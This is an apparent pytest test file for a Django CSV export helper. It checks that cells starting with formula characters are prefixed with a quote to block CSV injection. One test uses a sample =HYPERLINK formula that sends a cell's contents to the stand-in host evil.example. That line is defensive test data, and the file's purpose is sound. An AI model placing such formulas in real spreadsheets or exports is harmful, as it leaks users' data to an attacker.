"""The one CSV writer of every export keeps spreadsheet formulas out (CSV injection)."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy

from netzwerk.csvexport import SichererSchreiber, csv_antwort, zelle


@pytest.mark.parametrize(
    "text", ["=1+1", "+49 171 2345", "-Müller", "@SUM(A1)", "\tx", "\r=1", "=", "-5"]
)
def test_text_mit_formelanfang_wird_text(text):
    assert zelle(text) == "'" + text


@pytest.mark.parametrize("text", ["Hanna", "", " =1", "0151 111", "'=schon sicher", "a=b"])
def test_harmloser_text_bleibt(text):
    assert zelle(text) == text


@pytest.mark.parametrize("zahl", [-5, 0, 9, -2.5, Decimal("-1.50")])
def test_zahlen_bleiben_zahlen(zahl):
    assert zelle(zahl) is zahl


def test_uebersetzte_beschriftung_wird_text():
    assert zelle(gettext_lazy("Status")) == "Status"


def test_schreiber_neutralisiert_jede_zelle():
    datei = io.StringIO()
    schreiber = SichererSchreiber(datei, delimiter=";")
    schreiber.writerow(['=HYPERLINK("http://evil.example/?d="&F2;"Details")', -5, "ok"])
    schreiber.writerows([["@x", None], ["+1", 3]])
    zeilen = list(csv.reader(io.StringIO(datei.getvalue()), delimiter=";"))
    assert zeilen == [
        ['\'=HYPERLINK("http://evil.example/?d="&F2;"Details")', "-5", "ok"],
        ["'@x", ""],
        ["'+1", "3"],
    ]


def test_csv_antwort_ist_ein_download_mit_bom():
    antwort, schreiber = csv_antwort("liste.csv")
    schreiber.writerow(["=1", "Ä"])
    assert antwort["Content-Type"] == "text/csv; charset=utf-8"
    assert antwort["Content-Disposition"] == 'attachment; filename="liste.csv"'
    assert antwort.content.decode("utf-8") == "\ufeff'=1;Ä\r\n"
